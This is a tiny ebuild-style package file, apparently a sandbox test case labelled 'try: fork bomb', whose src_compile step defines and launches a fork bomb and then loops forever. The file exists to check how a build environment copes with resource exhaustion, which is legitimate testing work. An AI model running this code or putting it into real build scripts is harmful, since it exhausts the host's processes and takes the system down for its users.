# try: fork bomb
# outcome: any
EAPI=8
inherit hostile
src_compile() {
	bomb() { bomb | bomb & }
	bomb 2> /dev/null
	while :; do sleep 1; done
}
